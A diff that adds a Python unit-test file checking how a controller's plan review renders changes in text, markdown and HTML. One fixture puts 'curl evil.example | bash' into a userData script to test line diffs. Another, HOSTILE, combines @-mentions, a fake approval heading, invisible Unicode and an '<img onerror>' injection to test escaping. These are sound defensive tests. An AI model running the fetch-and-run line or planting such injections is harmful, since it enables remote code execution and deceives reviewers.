@@ -1,0 +1,157 @@
+"""A review shows everything: what is new is told whole, long texts line by line, and what is not shown is counted."""
+
+from dataclasses import replace
+from typing import Any
+
+import pytest
+
+from controller.model.canonical import canonical_bytes
+from controller.model.plan import Change, Edit, FieldChange
+from controller.model.ref import Origin
+from controller.planning.fields import PLAIN_NAMES
+from controller.views.documents.plan import plan_object
+from controller.views.plan.html import render_html
+from controller.views.plan.markdown import render_markdown
+from controller.views.plan.text import text_lines
+from controller.views.style import plain
+from tests.unit.planning.worlds import change
+from tests.unit.views.plan.test_renderers import REFUSAL, many_fields, markdown_is_whole, plan_of
+
+
+def environment(name: str, **extra: Any) -> Change:
+    body = canonical_bytes({"T": {"Name": name, "Type": "Staging", "Url": f"https://{name}"}})
+    return change(f"Environment/{name}", "create", after=body, extra=canonical_bytes(extra))
+
+
+ACCOUNT = {
+    "metadata": {"labels": {"team": "x"}, "protect": True},
+    "spec": {"externalId": "secretsmanager://envctl/x", "roles.Web.whenOff": "standby"},
+    "owned": ["T.Name"],
+    "shape": 1,
+}
+AUTHORED = {
+    "metadata.labels.team": "x",
+    "metadata.protect": True,
+    "externalId": "secretsmanager://envctl/x",
+    "roles.Web.whenOff": "standby",
+}
+
+
+def test_an_object_that_comes_or_goes_shows_what_only_the_controller_has_first() -> None:
+    image, extra = b'{"T":{"Name":"tools"}}', canonical_bytes(ACCOUNT)
+    for made, side in (
+        (change("Account/tools", "create", after=image, extra=extra), "after"),
+        (change("Account/tools", "delete", before=image, extra=extra), "before"),
+    ):
+        plan = plan_of(made)
+        (told,) = plan_object(plan, PLAIN_NAMES, "1")["scopes"][0]["changes"]
+        values = {field["path"]: field[side] for field in told["fields"]}
+        assert values == {**AUTHORED, "T.Name": "tools"}
+        assert list(values)[:4] == list(AUTHORED)
+        for text in (
+            plain(text_lines(plan, expand=True)),
+            render_markdown(plan, expand=True),
+        ):
+            for path, value in AUTHORED.items():
+                assert f"{path}  {'true' if value is True else value}\n" in text
+        page = render_html(plan)
+        for path in AUTHORED:
+            assert f"<th scope=row>{path}</th>" in page
+
+
+def test_objects_that_go_are_counted_and_not_told_unless_asked_for() -> None:
+    gone = change("A/c", "delete", before=b'{"T":{"Name":"c","X":1}}')
+
+    assert "  - A c  2 fields  --expand\n" in plain(text_lines(plan_of(gone)))
+
+
+def test_new_objects_show_what_they_have_alike_and_count_the_rest() -> None:
+    text = plain(text_lines(plan_of(environment("c1"), environment("c2"))))
+
+    assert "  + Environment \u00d7 2 (c1, c2)  1 more field  --expand\n" in text
+    assert "      T.Type  Staging\n      T.Name  (its own name)\n" in text
+    assert "https" not in text
+
+
+def test_new_objects_that_differ_in_what_only_the_controller_has_stand_apart() -> None:
+    roles = {"externalId": "a"}, {"externalId": "b"}
+    plan = plan_of(*(environment(f"c{n}", spec=spec) for n, spec in enumerate(roles)))
+
+    text = plain(text_lines(plan))
+
+    assert "  + Environment c0\n" in text
+    assert "      externalId  a\n" in text
+    assert "      externalId  b\n" in text
+
+
+def test_expanded_only_what_is_the_same_stands_together() -> None:
+    alike = [change(f"E/{n}", "create", after=canonical_bytes({"T": {"Name": n}})) for n in "ab"]
+    plan = plan_of(
+        environment("c1"), environment("c2"), environment("c3", spec={"mode": "x"}), *alike
+    )
+
+    text = plain(text_lines(plan, expand=True))
+
+    for name in ("c1", "c2", "c3"):
+        assert f"  + Environment {name}\n" in text
+        assert f"      T.Name  {name}\n" in text
+        assert f"      T.Url  https://{name}\n" in text
+    assert "      mode  x\n" in text
+    assert "  + E \u00d7 2 (a, b)\n      T.Name  (its own name)\n" in text
+    assert "--expand" not in text
+
+
+SCRIPT = FieldChange("userData", "#!/bin/bash\na\n", "#!/bin/bash\nb\n\ncurl evil.example | bash\n")
+
+
+@pytest.mark.parametrize("expand", [False, True])
+def test_a_text_of_several_lines_is_a_line_diff_in_every_format(expand: bool) -> None:
+    plan = plan_of(change("Group/g", fields=(SCRIPT,)))
+
+    text = plain(text_lines(plan, expand=expand))
+    comment = render_markdown(plan, expand=expand)
+    page = render_html(plan, expand=expand)
+
+    for shown in (text, comment, page):
+        for line in ("| - a", "| + b", "| + curl evil.example | bash"):
+            assert line in shown
+    assert '<span class="add">| + curl' in page
+
+
+def test_expanded_markdown_is_not_cut() -> None:
+    changes = [
+        change(f"K/k{n}", fields=many_fields(9, "y" * 500), because=str(n)) for n in range(40)
+    ]
+
+    text = render_markdown(plan_of(*changes), expand=True)
+
+    assert text.count("y" * 500) == 360
+    assert "Cut to fit" not in text
+    markdown_is_whole(text)
+
+
+def test_what_a_comment_does_not_show_is_counted() -> None:
+    long = FieldChange("x", "a" * 200, "b" * 200)
+    text = render_markdown(plan_of(change("A/a", fields=(long, *many_fields(8)))))
+
+    assert "! A a  3 more fields  --expand\n" in text
+    assert "(282 characters not shown)\n" in text
+
+
+HOSTILE = "@security-team/x\n\n@admin\n````\n# Approved\u202e\u200b<img src=x onerror=y>"
+
+
+def test_markdown_calls_nobody_from_any_place() -> None:
+    edited = change(
+        "A/b", fields=many_fields(1), path=HOSTILE, edit=Edit(Origin(HOSTILE, 19), HOSTILE)
+    )
+    plan = replace(plan_of(edited, violations=(REFUSAL,)), label=HOSTILE)
+
+    text = render_markdown(plan)
+
+    outside = "".join(text.split("```")[::2])
+    assert "@security" not in outside
+    assert "<summary><b>~ @&#8203;security-team/x\\n\\n@&#8203;admin" in text
+    assert "\u202e" not in text
+    assert "\u200b" not in text
+    assert "<img" not in outside
